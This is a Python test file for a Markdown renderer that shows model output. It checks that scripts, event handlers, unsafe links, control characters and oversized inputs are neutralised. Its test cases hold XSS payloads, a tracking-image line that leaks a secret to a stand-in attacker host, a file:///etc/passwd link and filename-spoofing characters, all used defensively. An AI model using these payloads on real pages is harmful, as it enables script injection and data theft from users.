"""What a model says is shown as Markdown that can fetch nothing, run nothing and hide nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from glimmer.display.markdown import markdown_html

MAY = {"div", "span", "p", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote", "a", "br", "hr"} | {
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Seen(HTMLParser):
    """The tags and attributes of some HTML, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.said = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.said += data


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <b onclick=x>b</b> <svg/onload=x>",
        "<iframe src='https://x'></iframe>\n\n<style>*{}</style>",
        "![pixel](https://evil.example/?secret=1)",
        '![a](x "t" onerror=1) ![](data:image/svg+xml;base64,PHN2Zz4=)',
        "[a](javascript:alert(1)) [b](JaVaScRiPt:1) [c](&#106;avascript:1) [d](\tjavascript:1) [e](java\nscript:1)",
        "[a](data:text/html,<script>1</script>) [b](vbscript:1) [c](file:///etc/passwd) [d](//evil.example) [e](/lab/tree)",
        "<javascript:alert(1)> <data:text/html,1> <https://x/\"onmouseover='1>",
        '[a](https://x.example/"onmouseover="alert(1))',
        "[![a](https://evil.example/p.png)](javascript:1)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "```html\n</code></pre><script>1</script>\n```",
        "`</code><script>`",
        "| a | b |\n|---|---|\n| <script>1</script> | ![x](https://e/p) |",
        "# <img src=x>\n\n> <b>\n\n- <i>",
        "<!-- x --> <?php ?> <![CDATA[x]]> &lt;script&gt; &#60;script&#62;",
        "\x00\x1b[31mred\u202egpj.exe\u2066",
        "[" * 5_000 + "](" * 5_000,
        "> " * 3_000 + "deep",
        "*" * 20_000 + "_" * 20_000,
    ],
)
def test_hostile_words_become_nothing_but_words(text: str) -> None:
    seen = Seen(markdown_html(text))
    for tag, attributes in seen.tags:
        assert tag in MAY
        assert set(attributes) <= {"style", "href", "rel", "target", "start"}
        if tag == "a":
            assert (attributes["href"] or "").startswith(("http://", "https://"))
            assert "noopener" in (attributes["rel"] or "")
        assert "url(" not in (attributes.get("style") or "")
    assert not re.search("[\x00\x1b\u202e\u2066]", seen.said)


def test_a_link_shows_where_it_leads_and_a_picture_its_words() -> None:
    seen = Seen(markdown_html("[your bank](https://evil.example/login) ![the whale](https://e/p.png) [x](javascript:1)"))
    assert seen.said == "your bank (https://evil.example/login) [picture: the whale] x (javascript:1)"


def test_what_is_meant_as_markdown_looks_like_it() -> None:
    html = markdown_html(
        "**Scene 2** has\n\n- 2A\n- 2B\n\n1. one\n\n`film.cut` and\n\n```py\nfilm.cut\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for part in ("<strong>Scene 2</strong>", "<li>2A</li>", "<ol>", ">film.cut</code>", "<td", "film.cut\n</code></pre>"):
        assert part in html
    assert "<h1" not in markdown_html("# big") and ">big</div>" in markdown_html("# big")


def test_an_endless_answer_is_shown_in_bounds() -> None:
    assert len(markdown_html("word " * 100_000)) < 60_000


def test_a_table_that_was_printed_is_a_table() -> None:
    said = "plan of Tab\nwhat    seconds\n──────  ───────\nMARA       1.00\na|b        0.80\n\nThen go on."
    html = str(markdown_html(said))
    assert html.count("<tr>") == 3 and "MARA</td>" in html and "a|b</td>" in html and "text-align:right" in html
    assert "plan of Tab</div>" in html and "Then go on.</div>" in html
    wide = str(markdown_html("what    kind\n──────  ─────\na long word  x"))
    assert "<table" not in wide and "a long word  x" in wide
    assert "<table" not in str(markdown_html(f"```\n{said}\n```"))
